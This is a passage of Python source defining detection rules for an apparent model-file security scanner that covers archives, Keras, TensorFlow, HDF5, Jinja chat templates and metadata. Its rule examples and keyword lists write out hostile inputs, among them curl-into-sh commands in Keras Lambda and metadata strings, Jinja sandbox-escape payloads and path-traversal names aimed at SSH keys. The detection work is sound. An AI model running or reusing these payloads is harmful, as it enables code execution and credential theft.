"""The scanner's rules, outside the pickle analyser (whose rules are in ``pickle/rules.py``).

Limits and unanalysed content (``SCAN-*``), names that disagree with content (``FORMAT-*``),
archive hygiene shared by zip, tar and 7z (``ARCHIVE-*``), zip-reader differentials
(``ZIP-*``), NumPy headers (``NUMPY-*``), TorchScript sources (``TORCHSCRIPT-*``), the
per-format rules, Python source and ``.pth`` files (``PYTHON-*``, ``PTH-*``) and what the
repository pass finds in a scanned folder (``REPO-*``, ``MLFLOW-*``). Handlers import the rule
objects from here and build findings with :meth:`Rule.finding`.
"""

from __future__ import annotations

from modelshield.core.findings import Severity
from modelshield.core.rules import Rule, register_rule

_ZIP_SLIP = (
    "https://security.snyk.io/research/zip-slip-vulnerability",
    "CWE-22",
)
_ZIP_REFS = ("https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT",)
_NPY_REFS = ("https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html",)

NUMPY_MAX_HEADER_BYTES = 10_000
"""NumPy refuses longer ``.npy`` headers unless ``allow_pickle=True`` (``numpy.lib.format``)."""


# ---- limits and unanalysed content ------------------------------------------------------

SCAN_LIMIT = register_rule(
    Rule(
        id="SCAN-LIMIT",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Analysis stopped at a configured limit",
        what="Reports that a size, depth, count or time limit stopped the analysis of part of a "
        "file. Findings made before the limit are kept. When the limit stopped the pickle "
        "interpreter, a linear pass then walks the rest of the stream and reports every import "
        "it meets (its findings say `found_by`); content beyond `limits.max_nested_depth` is "
        "searched the same way for pickles in plain sight. The message says what that pass "
        "found.",
        why="What was not analysed may hold a payload: hostile files are built to exhaust "
        "scanners so that they give up and call the file clean. A tripped limit is never a "
        "clean verdict.",
        example="A pickle that claims a 2**62-byte string, or an archive nested 20 levels deep.",
        references=("CWE-400", "CWE-409"),
        incomplete=True,
    )
)

SCAN_TOO_LARGE = register_rule(
    Rule(
        id="SCAN-FILE-TOO-LARGE",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="File larger than the size limit was not scanned",
        what="Reports a file above `limits.max_file_bytes`.",
        why="An unscanned file cannot be called safe.",
        incomplete=True,
    )
)

SCAN_FORMAT_NOT_ANALYSED = register_rule(
    Rule(
        id="SCAN-FORMAT-NOT-ANALYSED",
        pillar="scan",
        severity=Severity.LOW,
        title="Format recognised but not analysed",
        what="Reports content of a format that modelshield recognises but does not analyse yet "
        "(every recognised format has a reader today; the rule stays for formats added to "
        "the format table before their reader). The file is marked as not fully analysed.",
        why="A scanner that passes what it did not read gives a clean verdict on something it "
        "never checked. GGUF files carry chat templates that servers render; until a reader "
        "for the format lands, the run fails closed (exit code 2) unless the policy accepts "
        "the gap.",
        example="`model.gguf` inside a scanned folder.",
        references=("CWE-693",),
        incomplete=True,
    )
)

SCAN_UNRECOGNISED = register_rule(
    Rule(
        id="SCAN-UNRECOGNISED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Unrecognised content under a name a model loader reads",
        what="Reports content of no format modelshield recognises, nor an ordinary image, PDF, "
        "text or known data file. Medium for a file or archive member named like something a "
        "model loader opens (`.pt`, `.pth`, `.bin`, `.ckpt`, `.pkl`, `.pickle`, `.joblib`, "
        "`.npy`, `.npz`, `.h5`, `.keras`..., also through compression suffixes such as "
        "`.pkl.gz`); low under any other name. The content was still read as a pickle from "
        "its first byte, as every pickle fallback does; this finding says that nothing else "
        "could be checked. The file is marked as not fully analysed either way.",
        why="These loaders decide by content, not by name, and several fall back to "
        "unpickling whatever they do not recognise (`torch.load` on a non-zip file, "
        "`numpy.load(allow_pickle=True)` without the `.npy` magic, `joblib.load` without a "
        "compressor's magic). A scanner that passes what it cannot classify turns every gap "
        "in its detection into a silent pass; so the run fails closed (exit code 2) unless "
        "the policy accepts the gap.",
        example="`pytorch_model.bin` whose bytes match no known format (medium); "
        "`weights.dat` of random bytes (low).",
        references=("CWE-693", "CWE-502"),
        incomplete=True,
    )
)

FORMAT_EXTENSION_MISMATCH = register_rule(
    Rule(
        id="FORMAT-EXTENSION-MISMATCH",
        pillar="scan",
        severity=Severity.LOW,
        title="File named like a model holds another kind of content",
        what="Reports a file whose extension names a model format (`.pt`, `.pkl`, `.npy`, "
        "`.safetensors`...) while its content, detected from its bytes, is of another or of "
        "an unknown kind. modelshield always analyses files by content; this finding only "
        "points at the disagreement.",
        why="Scanners that route files by extension skip or misparse such files, and loaders "
        "that fall back from one format to another run code a reviewer did not expect (a raw "
        "pickle named `.bin` is unpickled by `torch.load`). A misnamed file is also often a "
        "corrupt or substituted artefact. Low severity: it never fails a run on its own.",
        example="`model.pt` holding a PNG image, or a bare pickle named `pytorch_model.bin`.",
        references=("CVE-2025-1889", "CVE-2025-10155", "CWE-434"),
    )
)


# ---- archive hygiene (zip, tar, 7z, compressed streams) -----------------------------------

ARCHIVE_PATH_TRAVERSAL = register_rule(
    Rule(
        id="ARCHIVE-PATH-TRAVERSAL",
        pillar="scan",
        severity=Severity.HIGH,
        title="Archive member path escapes the extraction folder",
        what="Reports a zip, tar or 7z member whose name is absolute, starts with a drive letter "
        "or a UNC prefix, contains a NUL byte, or climbs out of the folder with `..` "
        "components (with `/` or `\\` separators).",
        why='Extracting such an archive writes outside the target folder ("zip slip"): it can '
        "overwrite a shell profile, a Python module on the import path or a model a service "
        "loads next. Model archives never need such names.",
        example="A member named `../../../home/user/.bashrc` or `C:\\Windows\\evil.dll`.",
        references=(*_ZIP_SLIP, "CVE-2025-23360"),
    )
)

ARCHIVE_SYMLINK = register_rule(
    Rule(
        id="ARCHIVE-SYMLINK",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Archive member is a symbolic or hard link",
        what="Reports tar symbolic and hard links and zip entries whose unix mode is a symbolic "
        "link. The finding is high when the link points outside the archive (absolute, or "
        "climbing with `..`).",
        why="A link extracted first and written through second lets an archive write or read "
        "any file the extracting user can reach; a link inside a model folder can also make a "
        "loader read a file the reviewer never saw (`/etc/passwd`, an SSH key).",
        example="A tar member `weights -> /home/user/.ssh/id_rsa`.",
        references=("CWE-59", "CVE-2007-4559"),
    )
)

ARCHIVE_DUPLICATE_NAME = register_rule(
    Rule(
        id="ARCHIVE-DUPLICATE-NAME",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Two archive members have the same name",
        what="Reports an archive holding two or more members with one name. Each copy is analysed.",
        why="Readers disagree about which copy wins (the first, the last, or the one a lookup "
        "table happened to keep): a reviewer or a scanner may look at a harmless copy while "
        "the loader reads the other.",
        example="A zip with two `archive/data.pkl` entries, the second one malicious.",
        references=("CWE-436",),
    )
)

ARCHIVE_BOMB = register_rule(
    Rule(
        id="ARCHIVE-BOMB",
        pillar="scan",
        severity=Severity.HIGH,
        title="Compressed data inflates past the configured bounds",
        what="Reports a compressed stream or archive member that inflates past what is left of "
        "`limits.max_decompressed_bytes` (one budget for every compressed stream and member of "
        "a file, however they nest), or past `limits.max_compression_ratio` times its "
        "compressed size once above `limits.ratio_check_min_bytes` (16 MiB). Inflation stops "
        "there; what was inflated so far is still analysed.",
        why="Decompression bombs exhaust memory and disk of whatever opens them, and are used "
        "to make scanners give up; a payload can also hide after a gigabyte of padding.",
        example="A 1 MiB gzip stream that inflates to 1 GiB of zeros followed by a pickle.",
        references=("CWE-409",),
        incomplete=True,
    )
)

ARCHIVE_UNSUPPORTED = register_rule(
    Rule(
        id="ARCHIVE-UNSUPPORTED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Container recognised but not opened",
        what="Reports a container or compressed stream whose format was recognised but that "
        "could not be opened: RAR, zstd or 7z without their optional packages, an HDF5 file "
        "(Keras `.h5`) without h5py (the `hdf5` extra), or a zip member with a compression "
        "method this scanner does not implement. The message names what to install.",
        why="What was not opened was not analysed, so it cannot be called safe; loaders with "
        "more codecs installed may read it just fine.",
        example="A `.7z` checkpoint scanned where `py7zr` is not installed.",
        references=("CWE-693",),
        incomplete=True,
    )
)

ARCHIVE_EXECUTABLE_MEMBER = register_rule(
    Rule(
        id="ARCHIVE-EXECUTABLE-MEMBER",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Native executable or script inside a model archive",
        what="Reports an archive member (tensor storages included) that starts like an ELF, PE "
        "or Mach-O executable or a script with an interpreter line (`#!`).",
        why="Model weights need no programs. An executable shipped beside them is either a "
        "mistake or a dropper waiting for a loader, a setup script or a user to run it.",
        example="`model/extra/run` holding an ELF binary inside a PyTorch checkpoint.",
        references=("CWE-506",),
    )
)

ARCHIVE_ENCRYPTED_MEMBER = register_rule(
    Rule(
        id="ARCHIVE-ENCRYPTED-MEMBER",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Encrypted archive member could not be analysed",
        what="Reports a member that is really encrypted (ZipCrypto, AES or a password-protected "
        "7z): its data does not decode without the password.",
        why="An encrypted member cannot be scanned, so the archive cannot be called safe. Not "
        "high: PyTorch and NumPy cannot load encrypted members either, so it is an unscanned "
        "blob rather than an attack.",
        example="A zip created with `zip -e`.",
        references=("CWE-693",),
        incomplete=True,
    )
)

ARCHIVE_MALFORMED = register_rule(
    Rule(
        id="ARCHIVE-MALFORMED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Archive or compressed stream is structurally broken",
        what="Reports archives whose structure is inconsistent (a missing or truncated "
        "directory, members that claim more bytes than the file holds, corrupt compressed "
        "data). Everything readable is still analysed.",
        why="Readers recover from broken archives in different ways, so a scanner and a loader "
        "may see different contents; and what could not be parsed was not analysed.",
        example="A tar member that claims 1 TiB in a 10 KiB file.",
        references=("CWE-20", "CWE-436"),
        incomplete=True,
    )
)


# ---- zip reader differentials and PyTorch archives ----------------------------------------

ZIP_NAME_MISMATCH = register_rule(
    Rule(
        id="ZIP-NAME-MISMATCH",
        pillar="scan",
        severity=Severity.HIGH,
        title="Zip local header names a member differently from the central directory",
        what="Reports a zip member whose local file header carries another name than its "
        "central directory entry. The member is analysed once, under both names.",
        why="Readers disagree on which name counts: PyTorch's reader looks members up by the "
        "central directory name, other tools stream local headers. Scanners keyed on one name "
        "skip a payload the loader reads under the other. No archiver produces this.",
        example="Central directory `archive/data.pkl`, local header `archive/datap.kl`.",
        references=("CVE-2025-1944", "GHSA-7q5r-7gvp-wc82", *_ZIP_REFS),
    )
)

ZIP_FLAG_ANOMALY = register_rule(
    Rule(
        id="ZIP-FLAG-ANOMALY",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Zip member flagged encrypted or patched but stored in the clear",
        what="Reports a member whose general-purpose flags claim encryption (bit 0 or 6) or "
        "patched data (bit 5) while its data reads in the clear (it inflates with a matching "
        "CRC, or starts like a pickle, an archive or an executable). The member is analysed "
        "as PyTorch reads it.",
        why="Python's zipfile refuses such members while PyTorch's reader ignores the flags and "
        "loads them, so scanners built on zipfile skip a pickle that `torch.load` runs.",
        example="`model/config.pkl` with flag 0x1 and a plain pickle as its data.",
        references=("CVE-2025-1945", "GHSA-w8jq-xcqf-f792", *_ZIP_REFS),
    )
)

ZIP_CRC_MISMATCH = register_rule(
    Rule(
        id="ZIP-CRC-MISMATCH",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Zip member data does not match its recorded CRC-32",
        what="Reports a member whose data, as read, has another CRC-32 than the one recorded. "
        "The member is still analysed, as PyTorch's reader still loads it.",
        why="Python's zipfile raises on read, so scanners built on it see nothing, while "
        "`torch.load` ignores the CRC. The mismatch also means the file was altered after it "
        "was written.",
        example="`archive/data.pkl` edited in place without updating its CRC.",
        references=("CVE-2025-10156", *_ZIP_REFS),
    )
)

ZIP_HEADER_MISMATCH = register_rule(
    Rule(
        id="ZIP-HEADER-MISMATCH",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Zip local header disagrees with the central directory",
        what="Reports a member whose local header records another compression method, size or "
        "CRC than its central directory entry (data descriptors excepted).",
        why="Streaming readers trust the local header, directory readers the central one: the "
        "two see different bytes, which hides data from one of them.",
        example="A central entry of 10 bytes whose local header claims 10 MB.",
        references=_ZIP_REFS,
    )
)

ZIP_OVERLAPPING_ENTRIES = register_rule(
    Rule(
        id="ZIP-OVERLAPPING-ENTRIES",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Zip entries share or overlap their data",
        what="Reports central directory entries whose local headers and data overlap each other.",
        why="Overlapping entries are the building block of non-recursive zip bombs (one "
        "compressed kernel inflated once per entry) and let two names show the same bytes.",
        example="1000 entries that all point at one deflated kernel.",
        references=("https://www.bamsoftware.com/hacks/zipbomb/", "CWE-409"),
    )
)

ZIP_POLYGLOT = register_rule(
    Rule(
        id="ZIP-POLYGLOT",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Data before the first zip entry (polyglot file)",
        what="Reports a zip whose entries start after other data, so that the file is also "
        "read as another format from its first byte. The leading data is analysed by content.",
        why="`torch.load`, `numpy.load` and `pickle.load` look at the first bytes while zip "
        "readers look at the end: one file can carry a harmless archive for the scanner and a "
        "pickle for the loader.",
        example="A pickle with a zip checkpoint appended.",
        references=("CWE-434", *_ZIP_REFS),
    )
)

TORCHSCRIPT_SUSPICIOUS_CODE = register_rule(
    Rule(
        id="TORCHSCRIPT-SUSPICIOUS-CODE",
        pillar="scan",
        severity=Severity.HIGH,
        title="TorchScript code calls into the operating system or evaluates code",
        what="Reports TorchScript source members (`code/**/*.py`) that mention `os.system`, "
        "`subprocess`, `__import__`, `exec(` or `eval(`.",
        why="TorchScript archives carry Python-like source that `torch.jit.load` compiles; "
        "compiled models never need process or code-evaluation calls, so their presence means "
        "the archive was edited to do something a model does not do.",
        example='`archive/code/__torch__/model.py` containing `os.system("curl ...")`.',
        references=("https://pytorch.org/docs/stable/jit.html",),
    )
)


# ---- NumPy -----------------------------------------------------------------------------------

NUMPY_HEADER_INVALID = register_rule(
    Rule(
        id="NUMPY-HEADER-INVALID",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="NumPy array header cannot be parsed",
        what="Reports a `.npy` header with an unknown version, a header that is not a dict "
        "literal with `descr`, `fortran_order` and `shape`, or one larger than NumPy's "
        f"{NUMPY_MAX_HEADER_BYTES}-byte bound. The array data is then analysed by content.",
        why="Without the header the scanner cannot tell whether the data is a pickle; NumPy "
        "versions and `allow_pickle=True` (which lifts the header bound) may still load it.",
        example="A header of 50,000 bytes, or `{'descr': eval('...')}`.",
        references=_NPY_REFS,
    )
)

NUMPY_TRUNCATED = register_rule(
    Rule(
        id="NUMPY-TRUNCATED",
        pillar="scan",
        severity=Severity.LOW,
        title="NumPy array holds less data than its header declares",
        what="Reports a numeric `.npy` whose shape and dtype call for more bytes than the file "
        "holds after its header.",
        why="NumPy refuses to load it, so it is no attack by itself, but the file is corrupt or "
        "was cut or edited after it was written.",
        example="`shape: (1000, 1000)` of `<f4` with only 1 KB of data.",
        references=_NPY_REFS,
    )
)


# ---- Keras (config.json, .h5 model_config, keras_metadata.pb) -----------------------------

_KERAS_SAVING = "https://keras.io/guides/serialization_and_saving/"

KERAS_LAMBDA = register_rule(
    Rule(
        id="KERAS-LAMBDA",
        pillar="scan",
        severity=Severity.HIGH,
        title="Keras Lambda layer carries Python code",
        what="Reports a `Lambda` layer (or any `__lambda__` object) in a Keras model config whose "
        "function is marshalled Python bytecode or Python source. The bytecode is decoded "
        "without `marshal` and the names and constants it uses are listed as evidence; the "
        "finding is critical when they include a dangerous callable (`os.system`, `eval`, "
        "`__import__`...), judged by the callable policy.",
        why="Keras rebuilds the function with `marshal.loads` and runs it when the model is "
        "called (Keras 2 and tf.keras before 2.13 always; Keras 3 when `safe_mode=False`, and "
        "for `.h5` files in versions that ignored `safe_mode` there). Bytecode can compute the "
        "names it calls, so a Lambda is never less than high even when its names look "
        "harmless: review it, or re-save the model with a registered custom layer instead.",
        example="`Lambda(lambda x: __import__('os').system('curl evil | sh') or x)` saved to "
        "`model.h5`.",
        references=("CVE-2024-3660", "CVE-2025-9905", "CWE-94", _KERAS_SAVING),
    )
)

KERAS_UNSAFE_IMPORT = register_rule(
    Rule(
        id="KERAS-UNSAFE-IMPORT",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Keras config names an object outside Keras' modelling objects",
        what="Reports a `module`/`class_name` (or a `function` reference) in a Keras config "
        "that is not one of Keras' own layers, operations, optimizers, losses, metrics, "
        "initializers, regularizers, constraints or activations (the generated list in "
        "`scanner/data/keras_objects.toml`). Names outside Keras are judged by the callable "
        "policy: a dangerous callable is reported at its severity (at least high), an "
        "unknown one at medium. Keras' non-modelling APIs (`keras.utils.get_file`, "
        "`keras.config.enable_unsafe_deserialization`, `keras.models.load_model`...) are "
        "high.",
        why="Keras before 3.9 imports whatever module a config names and calls what it finds, "
        "even with `safe_mode=True`; later versions still rebuild objects of allowed "
        "packages, and non-modelling Keras APIs have been used to download files or switch "
        "safe mode off from inside a config.",
        example='`{"module": "os", "class_name": "function", "config": "system"}` as a '
        "layer's activation.",
        references=("CVE-2025-1550", "CVE-2025-8747", "CVE-2025-9906", "CWE-470", _KERAS_SAVING),
    )
)

KERAS_CUSTOM_OBJECT = register_rule(
    Rule(
        id="KERAS-CUSTOM-OBJECT",
        pillar="scan",
        severity=Severity.LOW,
        title="Keras model needs custom objects",
        what="Reports a class or function that a Keras config names without a module to import "
        "it from (or with a registered `package>name`), which Keras resolves only through "
        "objects registered or passed by the loading program.",
        why="The code of a custom object is not in the file: loading runs whatever the loading "
        "program registered under that name. Not an attack by itself, but it tells a "
        "reviewer which code the model depends on.",
        example='`{"class_name": "MyAttention", "registered_name": "mylib>MyAttention"}`.',
        references=(_KERAS_SAVING,),
    )
)

KERAS_EXTERNAL_MODEL = register_rule(
    Rule(
        id="KERAS-EXTERNAL-MODEL",
        pillar="scan",
        severity=Severity.HIGH,
        title="Keras layer loads a model or pickle from outside its config",
        what="Reports a `TFSMLayer` (which loads the TensorFlow SavedModel at its `filepath` "
        "when the model is rebuilt) and a `TorchModuleWrapper` (whose config holds a "
        "`torch.save` archive that Keras reloads with `torch.load`; the embedded archive is "
        "also analysed by content).",
        why="A TFSMLayer runs the graph of a SavedModel the scanned file does not contain, from "
        "any path or bucket the attacker chose; a TorchModuleWrapper unpickles its module.",
        example='`{"class_name": "TFSMLayer", "config": {"filepath": "/tmp/evil_savedmodel"}}`.',
        references=("CVE-2026-1462", "CWE-502", _KERAS_SAVING),
    )
)

KERAS_FILE_REFERENCE = register_rule(
    Rule(
        id="KERAS-FILE-REFERENCE",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Keras config refers to a file path or URL",
        what="Reports string values of a Keras config that are URLs (`http://`, `gs://`, "
        "`file://`...), absolute paths, home-relative paths or paths climbing with `..`.",
        why="Layers and utilities read the files a config names while rebuilding the model "
        "(lookup-layer vocabularies, `get_file` downloads, SavedModel paths): a model file "
        "then reads or fetches something its reviewer never saw.",
        example='`"vocabulary": "/etc/passwd"` in a `StringLookup` layer.',
        references=("CWE-22", "CWE-918"),
    )
)

KERAS_CONFIG_INVALID = register_rule(
    Rule(
        id="KERAS-CONFIG-INVALID",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Keras model config could not be analysed",
        what="Reports a Keras model config (`config.json`, an `.h5` `model_config`, Keras "
        "metadata in a SavedModel) that is not valid JSON, is larger than "
        "`limits.max_document_bytes`, or nests deeper than the JSON reader allows.",
        why="What was not parsed was not analysed, and Keras may still read it (its JSON reader "
        "differs from the scanner's on edge cases).",
        example="A `config.json` of 200 MB, or one nested a million levels deep.",
        references=("CWE-20",),
        incomplete=True,
    )
)


# ---- TensorFlow SavedModel and GraphDef -------------------------------------------------------

_TF_SECURITY = "https://github.com/tensorflow/tensorflow/blob/master/SECURITY.md"

TF_UNSAFE_OP = register_rule(
    Rule(
        id="TF-UNSAFE-OP",
        pillar="scan",
        severity=Severity.HIGH,
        title="TensorFlow graph calls Python or touches files or the network",
        what="Reports graph and function-library nodes of a SavedModel (`saved_model.pb`) or "
        "frozen GraphDef whose op runs Python callbacks (`PyFunc`, `EagerPyFunc`), reads or "
        "lists files (`ReadFile`, `MatchingFiles`, `ImmutableConst`, readers, file "
        "datasets), writes files (`WriteFile`, summary writers, `PrintV2` to a file, dataset "
        "savers), or reaches the network (RPC ops). Checkpoint ops (`SaveV2`, `RestoreV2`, "
        "`MergeV2Checkpoints`, vocabulary-file tables) are expected in the saver functions and "
        "are reported only when their path is a constant baked into the graph. Constant "
        "strings feeding the node are given as evidence.",
        why="A SavedModel is a program: TensorFlow runs these ops when the model is served or "
        "called (and at load time when they sit in an init op), so a graph can read "
        "`~/.ssh/id_rsa` into its output, overwrite files, or call back into Python. Models "
        "need none of them to compute.",
        example='A `WriteFile` node writing to `"/home/user/.bashrc"` in the serving function.',
        references=(_TF_SECURITY, "CWE-94", "CWE-73"),
    )
)

TF_ASSET_PATH = register_rule(
    Rule(
        id="TF-ASSET-PATH",
        pillar="scan",
        severity=Severity.HIGH,
        title="SavedModel asset path escapes the model folder",
        what="Reports a SavedModel asset (`asset_file_def`) whose file name is absolute or "
        "climbs out of the `assets/` folder with `..`.",
        why="The loader joins asset names to the model's `assets/` folder and hands the path to "
        "the graph (vocabulary tables, file readers): an absolute name makes the model read a "
        "file of the host instead of its own.",
        example='An asset named `"../../../../etc/passwd"`.',
        references=("CWE-22",),
    )
)

TF_PROTOBUF_MALFORMED = register_rule(
    Rule(
        id="TF-PROTOBUF-MALFORMED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="TensorFlow protobuf could not be parsed",
        what="Reports a SavedModel, GraphDef or Keras metadata protobuf whose wire format is "
        "broken (a length past the end of its message, a varint longer than 10 bytes, an "
        "unknown wire type) or nests attribute values deeper than the scanner follows. What "
        "was read before the problem was analysed.",
        why="The part after the problem was not analysed; and protobuf readers recover "
        "differently from broken input, so the loader may see nodes the scanner did not.",
        example="A node whose name claims 2**62 bytes.",
        references=("CWE-20",),
        incomplete=True,
    )
)


# ---- HDF5 -------------------------------------------------------------------------------------

HDF5_EXTERNAL_REFERENCE = register_rule(
    Rule(
        id="HDF5-EXTERNAL-REFERENCE",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="HDF5 file links to or reads data from other files",
        what="Reports HDF5 external links, datasets with external raw storage and virtual "
        "datasets, with the file they name. High when that file is absolute or climbs out of "
        "the model's folder.",
        why="Reading such a dataset (Keras reads every weight) reads the other file: a model "
        "can pull `/etc/shadow` or a private key into its weights, or depend on data nobody "
        "reviewed. Keras never writes them.",
        example="A weight dataset whose external storage is `/home/user/.ssh/id_rsa`.",
        references=("https://docs.hdfgroup.org/hdf5/develop/group___h5_l.html", "CWE-73"),
    )
)

HDF5_DATASET_OVERSIZED = register_rule(
    Rule(
        id="HDF5-DATASET-OVERSIZED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="HDF5 dataset declares far more data than the file stores",
        what="Reports a dataset whose declared size (shape times element size) is above "
        "`limits.max_decompressed_bytes`, or above `limits.max_compression_ratio` times the "
        "storage it really has once past `limits.ratio_check_min_bytes`. Dataset contents are "
        "never read by the scanner.",
        why="A loader that reads the dataset allocates the declared size: a few kilobytes of "
        "file can claim terabytes and exhaust the memory of whatever loads the model.",
        example="A 1 KiB `.h5` with a chunked dataset of 2**40 float32 elements.",
        references=("CWE-400", "CWE-409"),
    )
)

HDF5_NOT_ANALYSED = register_rule(
    Rule(
        id="HDF5-NOT-ANALYSED",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="HDF5 file could not be read fully",
        what="Reports an HDF5 file (a Keras `.h5` model or a `model.weights.h5` inside a "
        "`.keras` archive) whose structure the HDF5 library could not read, that held more "
        "objects or attributes than the limits allow, or whose reader process failed or ran "
        "out of time or memory. Findings made before the problem are kept.",
        why="What was not read was not analysed; HDF5 readers differ in what they tolerate, so "
        "the loader may see the attributes the scanner did not.",
        example="An `.h5` with 40,000 attributes on one group, or a corrupted object header.",
        references=("CWE-20",),
        incomplete=True,
    )
)


# ---- Jinja templates (chat templates in GGUF, tokenizer configs and template files) -------

_TEMPLATE_REFS = (
    "CVE-2024-34359",
    "CVE-2026-5760",
    "GHSA-56xg-wfcc-g829",
    "CWE-1336",
    "https://jinja.palletsprojects.com/en/stable/sandbox/",
)


_NOT_RENDERED = (
    " A template stored where no known loader renders one (any key other than `chat_template` "
    "in a JSON document, a GGUF key outside `tokenizer.chat_template*`) is reported at medium at "
    "most: it runs only if some tool renders it."
)


TEMPLATE_SANDBOX_ESCAPE = register_rule(
    Rule(
        id="TEMPLATE-SANDBOX-ESCAPE",
        pillar="scan",
        severity=Severity.CRITICAL,
        title="Jinja template reaches Python internals",
        what="Parses a Jinja template (a GGUF `tokenizer.chat_template`, a `chat_template` in "
        "`tokenizer_config.json` or `chat_template.json`, a `.jinja` file) with Jinja2's own "
        "parser, never rendering it, and reports expressions that reach for attributes or items "
        "that lead out of a sandbox: dunder names (`__class__`, `__mro__`, `__subclasses__`, "
        "`__globals__`, `__builtins__`, `__init__`...), private (`_module`) and interpreter "
        "internals (`func_globals`, `f_globals`, `gi_frame`, `mro`), whether written directly, "
        "with `|attr`, as a subscript, through `map(attribute=...)`, inside a `str.format` "
        "field, or built from pieces (`~`, `+`, `|join`, `|format`, `chr`, escapes). The "
        "evidence is the offending expression and its line." + _NOT_RENDERED,
        why="Servers render chat templates to build prompts. llama-cpp-python before 0.2.72 "
        "rendered GGUF templates with an unsandboxed Jinja2 environment, so a model file ran "
        "any Python it wanted when a chat started (CVE-2024-34359); vLLM and SGLang repeated "
        "the root cause (CVE-2026-5760). Jinja's sandbox refuses exactly these names, and no "
        "real chat template uses them.",
        example="{% for c in [].__class__.__base__.__subclasses__() %}...{% endfor %}",
        references=_TEMPLATE_REFS,
    )
)


TEMPLATE_DANGEROUS_NAME = register_rule(
    Rule(
        id="TEMPLATE-DANGEROUS-NAME",
        pillar="scan",
        severity=Severity.HIGH,
        title="Jinja template names operating-system, import or evaluation functions",
        what="Reports a Jinja template that uses names no prompt needs: `os`, `subprocess`, "
        "`sys`, `__import__`, `eval`, `exec`, `getattr`, `open` and the like as variables, "
        "attributes such as `popen`, `system`, `check_output`, `environ` or `import_module`, "
        "`chr` and `ord`, Jinja's own globals used other than by calling them (`cycler.x`, "
        "`joiner.x`, `lipsum|string`, `namespace.x`), string constants naming Python "
        "internals, or `{% include %}`, `{% import %}` and `{% extends %}`, which make the "
        "renderer load other files." + _NOT_RENDERED,
        why="These names are the second half of a template-injection payload (the object "
        "reached through internals is then used to run a command), or a probe for what the "
        "renderer exposes. Chat templates only format messages.",
        example="{{ os.popen('id').read() }}",
        references=_TEMPLATE_REFS,
    )
)


TEMPLATE_OBFUSCATED_ACCESS = register_rule(
    Rule(
        id="TEMPLATE-OBFUSCATED-ACCESS",
        pillar="scan",
        severity=Severity.HIGH,
        title="Jinja template computes the names of the attributes it reads",
        what="Reports attribute reads whose name is computed at render time (`x|attr(name)` "
        "with a non-constant name, `map(attribute=expr)`); subscripts whose key is built from "
        "pieces (`~`, `+`, `|join`, `|format`, `|replace`, `|reverse`, `chr(...)`) that hold "
        "underscores or fragments of internal names, or is a variable or namespace attribute "
        "assembled from such pieces (in a loop too); strings built from pieces that spell an "
        "internal name; `'%c'|format` of computed character codes; and `str.format` called on "
        "a string computed at render time (its fields read attributes)." + _NOT_RENDERED,
        why="Building a name from pieces is how payloads hide `__globals__` from text "
        "searches; chat templates index messages with plain keys.",
        example="{{ ''|attr('_' ~ '_cla' ~ 'ss_' ~ '_') }}",
        references=_TEMPLATE_REFS,
    )
)


TEMPLATE_UNPARSEABLE = register_rule(
    Rule(
        id="TEMPLATE-UNPARSEABLE",
        pillar="scan",
        severity=Severity.LOW,
        title="Chat template that Jinja2 cannot parse",
        what="Reports a chat template (under a `chat_template` key or a GGUF "
        "`tokenizer.chat_template*` key) that Jinja2's parser rejects. Its text is still "
        "searched for sandbox-escape names; the finding is medium when it holds some. Text "
        "files that merely contain `{{` are not reported when they do not parse.",
        why="Jinja2-based renderers refuse it, so it does not run there; but other renderers "
        "(C++ and Rust Jinja dialects) accept other syntax, and a broken template in a model "
        "repository is worth a look.",
        example='"chat_template": "{{ unclosed"',
        references=_TEMPLATE_REFS,
    )
)


# ---- metadata strings (safetensors, GGUF, ONNX, JSON documents) ---------------------------

METADATA_CODE = register_rule(
    Rule(
        id="METADATA-CODE",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Metadata string holds code or a shell command",
        what="Reports a string in model metadata (safetensors `__metadata__`, GGUF key/values, "
        "ONNX `metadata_props` and doc strings, values in JSON documents) that reads as a "
        "command or code: Python that imports or calls process, import or evaluation "
        "functions (`import os`, `os.system(`, `subprocess.`, `exec(`, `eval(`, "
        "`__import__(`), shell command lines (`rm -rf`, `curl`/`wget` of a URL, a pipe into "
        "`sh`, `chmod 777`, `nc -e`) or an HTML `<script>`.",
        why="No loader of these formats executes metadata, so this is not code execution by "
        "itself; but weights metadata has no use for commands. It is a staged payload for a "
        "pipeline that evaluates metadata, instructions aimed at a person, or markup injected "
        "into a model hub's pages. Medium: it fails the default policy so that someone reads "
        "it.",
        example='{"__metadata__": {"init": "import os; os.system(\'curl http://x | sh\')"}}',
        references=("CWE-94", "CWE-79"),
    )
)


METADATA_CREDENTIAL = register_rule(
    Rule(
        id="METADATA-CREDENTIAL",
        pillar="scan",
        severity=Severity.MEDIUM,
        title="Metadata or configuration holds a credential",
        what="Reports a string that has the shape of a provider credential (OpenAI `sk-`, "
        "Hugging Face `hf_`, GitHub `ghp_`, AWS `AKIA`, Slack `xox?-`, Google `AIza`, a PEM "
        "private key), or a value of a secret-named key (`api_key`, `secret`, `password`, "
        "`access_token`, `*_key`...) that is neither empty nor a placeholder nor a hex digest. "
        "The evidence shows only the first characters.",
        why="A credential shipped with a model is leaked to everyone who downloads it, and a "
        "key placed beside an endpoint in a config is how exfiltration setups are wired.",
        example='{"config": {"api_key": "sk-..."}}',
